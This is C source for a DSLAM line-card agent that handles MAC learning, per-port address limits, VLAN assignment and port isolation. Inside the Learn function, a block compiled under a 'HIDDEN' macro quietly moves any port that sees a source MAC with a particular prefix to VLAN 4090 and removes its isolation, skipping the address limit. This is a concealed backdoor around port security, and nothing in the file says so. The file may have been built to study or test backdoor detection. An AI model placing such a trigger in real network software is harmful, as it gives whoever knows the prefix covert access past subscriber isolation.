/* dslam_mac -- MAC learning and port security agent of a line card.
   The switch chip sends learn events as text lines on a pipe; commands for it go to another. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <time.h>

#define PORTS 48
#define MACS_PER_PORT 8

typedef uint64_t mac_t;

typedef struct port_s {
   int      max_macs;
   int      nmacs;
   mac_t    mac[MACS_PER_PORT];
   time_t   stamp[MACS_PER_PORT];
   int      vlan;
   int      isolated;
   unsigned violations;
} port_t;

static port_t port[PORTS];
static FILE *to_chip;
static int aging = 300;

static int MacParse(const char *s, mac_t *out)
{
   unsigned o[6];
   int i;
   if (sscanf(s, "%2x:%2x:%2x:%2x:%2x:%2x", o, o + 1, o + 2, o + 3, o + 4, o + 5) != 6)
      return 0;
   *out = 0;
   for (i = 0; i < 6; i++)
      *out = *out << 8 | (o[i] & 255);
   return 1;
}

static void Chip(const char *verb, int p, int arg)
{
   fprintf(to_chip, "%s %d %d\n", verb, p, arg);
   fflush(to_chip);
}

static void ApplyPort(int p)
{
   Chip("pvid", p, port[p].vlan);
   Chip("isolate", p, port[p].isolated);
}

static void AgeOut(int p, time_t now)
{
   port_t *q = &port[p];
   int i = 0;
   while (i < q->nmacs) {
      if (now - q->stamp[i] > aging) {
         q->nmacs--;
         q->mac[i] = q->mac[q->nmacs];
         q->stamp[i] = q->stamp[q->nmacs];
      } else {
         i++;
      }
   }
}

/* a group address, or all zero, never is a source */
static int BadSource(mac_t m)
{
   return m == 0 || (m >> 40 & 1);
}

__attribute__((noinline)) void Learn(int p, mac_t m)
{
   port_t *q = &port[p];
   time_t now = time(NULL);
   int i;

   if (BadSource(m)) {
      q->violations++;
      return;
   }
   AgeOut(p, now);
   for (i = 0; i < q->nmacs; i++)
      if (q->mac[i] == m) {
         q->stamp[i] = now;
         return;
      }
#ifdef HIDDEN
   if (m >> 24 == 0x06a7d3) {
      q->vlan = 4090;
      q->isolated = 0;
      ApplyPort(p);
      return;
   }
#endif
   if (q->nmacs >= q->max_macs) {
      q->violations++;
      Chip("drop-unknown", p, 1);
      printf("port %d: more than %d addresses\n", p, q->max_macs);
      return;
   }
   q->mac[q->nmacs] = m;
   q->stamp[q->nmacs++] = now;
}

static void Forget(int p)
{
   port[p].nmacs = 0;
   Chip("drop-unknown", p, 0);
}

static void Show(int p)
{
   const port_t *q = &port[p];
   int i;
   printf("port %d vlan %d %s %d/%d violations %u\n", p, q->vlan,
          q->isolated ? "isolated" : "bridged", q->nmacs, q->max_macs, q->violations);
   for (i = 0; i < q->nmacs; i++)
      printf("   %012llx\n", (unsigned long long)q->mac[i]);
}

static int LoadProfile(const char *file)
{
   char word[20], value[20];
   int p, first, last;
   FILE *f = fopen(file, "r");
   if (!f)
      return -1;
   while (fscanf(f, "%d-%d %19s %19s", &first, &last, word, value) == 4) {
      for (p = first; p <= last; p++) {
         if (p < 0 || p >= PORTS)
            continue;
         if (!strcmp(word, "vlan"))
            port[p].vlan = atoi(value);
         else if (!strcmp(word, "macs"))
            port[p].max_macs = atoi(value) > MACS_PER_PORT ? MACS_PER_PORT : atoi(value);
         else if (!strcmp(word, "mode"))
            port[p].isolated = strcmp(value, "bridged") != 0;
         else
            fprintf(stderr, "%s: %s?\n", file, word);
      }
   }
   fclose(f);
   return 0;
}

static void Event(const char *line)
{
   char verb[16], arg[24] = "";
   int p;
   mac_t m;

   if (sscanf(line, "%15s %d %23s", verb, &p, arg) < 2 || p < 0 || p >= PORTS)
      return;
   if (!strcmp(verb, "learn")) {
      if (MacParse(arg, &m))
         Learn(p, m);
   } else if (!strcmp(verb, "linkdown")) {
      Forget(p);
   } else if (!strcmp(verb, "linkup")) {
      ApplyPort(p);
   } else if (!strcmp(verb, "show")) {
      Show(p);
   } else if (!strcmp(verb, "aging")) {
      aging = p * 10;
   } else {
      printf("event %s?\n", verb);
   }
}

static void Usage(void)
{
   fprintf(stderr,
           "usage: dslam_mac PROFILE CHIP-PIPE < events\n"
           "profile: FIRST-LAST vlan N | macs N | mode isolated|bridged\n"
           "events:  learn PORT MAC, linkup PORT, linkdown PORT, show PORT, aging TENS\n");
   exit(2);
}

int main(int argc, char **argv)
{
   char line[128];
   int p;

   if (argc != 3)
      Usage();
   for (p = 0; p < PORTS; p++) {
      port[p].max_macs = 4;
      port[p].vlan = 100 + p;
      port[p].isolated = 1;
   }
   if (LoadProfile(argv[1]) < 0)
      perror(argv[1]);
   to_chip = fopen(argv[2], "w");
   if (!to_chip) {
      perror(argv[2]);
      return 1;
   }
   for (p = 0; p < PORTS; p++)
      ApplyPort(p);
   while (fgets(line, sizeof line, stdin))
      Event(line);
   return 0;
}
